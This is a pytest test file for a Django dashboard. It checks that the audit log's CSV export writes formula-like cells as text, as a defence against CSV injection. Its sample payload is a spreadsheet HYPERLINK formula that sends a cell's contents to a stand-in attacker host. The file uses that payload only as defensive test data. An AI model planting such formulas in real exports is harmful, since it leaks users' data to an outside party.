"""The audit log's CSV export never hands a spreadsheet a formula: a cell that starts as one
(OWASP's list for CSV injection) is written as text, whoever typed it and in whichever column."""

import csv
import io

import pytest
from django.urls import reverse

from dashboard.models import AuditEntry

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def entry(account, **changes) -> AuditEntry:
    values = {
        "username": "staff",
        "account": account,
        "account_nickname": account.nickname,
        "action": "reject",
        "target": "Webcam received booking 7 with Client",
        "outcome": "done",
        "inputs": {"reason": "Busy"},
        "message": "Rejected.",
    }
    return AuditEntry.objects.create(**{**values, **changes})


def exported(client, account) -> dict[str, str]:
    response = client.get(reverse("bookings:audit_export"), {"account": account.pk})
    text = b"".join(response.streaming_content).decode()
    [row] = csv.DictReader(io.StringIO(text, newline=""))
    return row


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
@pytest.mark.parametrize("column", ["message", "target", "username", "account_nickname"])
def test_a_cell_starting_like_a_formula_is_exported_as_text(client, owner, account, start, column):
    entry(account, **{column: f"{start}{PAYLOAD}"})
    client.force_login(owner)
    assert exported(client, account)[column] == f"'{start}{PAYLOAD}"


def test_the_inputs_column_is_guarded_like_the_others(client, owner, account):
    # Written "name=value; ...", it starts with a name of ours, never "=": unless a name is
    # empty, which the guard must then catch like any other cell.
    entry(account, inputs={"": PAYLOAD})
    client.force_login(owner)
    assert exported(client, account)["inputs"] == f"'={PAYLOAD}"


def test_an_ordinary_cell_is_exported_as_it_is(client, owner, account):
    entry(account, message="Rejected: not available = busy")
    client.force_login(owner)
    assert exported(client, account)["message"] == "Rejected: not available = busy"
